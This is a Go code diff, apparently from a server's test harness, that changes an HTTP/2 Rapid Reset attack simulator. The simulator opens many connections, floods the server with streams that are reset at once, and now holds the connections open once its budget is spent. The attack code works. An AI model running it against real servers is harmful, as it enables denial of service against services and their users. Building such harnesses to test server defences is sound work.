@@ -78,7 +78,8 @@ type RapidResetStats struct {
 }
 
 // rapidReset runs conns attacker connections from src against addr until
-// ctx ends or limit streams were written in all. A connection the server
+// ctx ends; once limit streams were written in all, they hold their
+// connections until then. A connection the server
 // closes is redialled after 50 ms, as a real attacker would.
 func rapidReset(ctx context.Context, addr string, src netip.Addr, conns, limit int) *RapidResetStats {
 	st := &RapidResetStats{}
@@ -93,9 +94,15 @@ func rapidReset(ctx context.Context, addr string, src netip.Addr, conns, limit i
 			}
 			for ctx.Err() == nil && budget.Load() > 0 {
 				c, err := d.DialContext(ctx, "tcp", addr)
-				if err != nil {
+				switch {
+				case attackOver(ctx):
+					if err == nil {
+						_ = c.Close()
+					}
+					return
+				case err != nil:
 					atomic.AddInt64(&st.DialErrors, 1)
-				} else {
+				default:
 					atomic.AddInt64(&st.Conns, 1)
 					if byServer := resetLoop(ctx, c, addr, &budget, st); byServer {
 						atomic.AddInt64(&st.ClosedByServer, 1)
@@ -116,7 +123,6 @@ func rapidReset(ctx context.Context, addr string, src netip.Addr, conns, limit i
 func resetLoop(ctx context.Context, c net.Conn, authority string, budget *atomic.Int64, st *RapidResetStats) (closedByServer bool) {
 	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
 	defer stop()
-	defer c.Close()
 
 	// The reader drains the server's frames (its SETTINGS, window updates,
 	// the answers of streams that started before the reset) so that the
@@ -139,7 +145,10 @@ func resetLoop(ctx context.Context, c net.Conn, authority string, budget *atomic
 			}
 		}
 	}()
-	defer func() { <-serverDone }()
+	defer func() {
+		_ = c.Close()
+		<-serverDone
+	}()
 
 	out := append([]byte(h2Preface), h2Frame(nil, h2Settings, 0, 0, nil)...)
 	out = h2Frame(out, h2Settings, h2FlagAck, 0, nil)
@@ -153,7 +162,14 @@ func resetLoop(ctx context.Context, c net.Conn, authority string, budget *atomic
 	for ctx.Err() == nil {
 		n := min(int64(batch), budget.Add(-batch)+batch)
 		if n <= 0 {
-			return false
+			// Budget spent: hold the connection, as an attacker would,
+			// so the server works through what it was sent.
+			select {
+			case <-serverDone:
+				return ctx.Err() == nil
+			case <-ctx.Done():
+				return false
+			}
 		}
 		out = out[:0]
 		for range n {
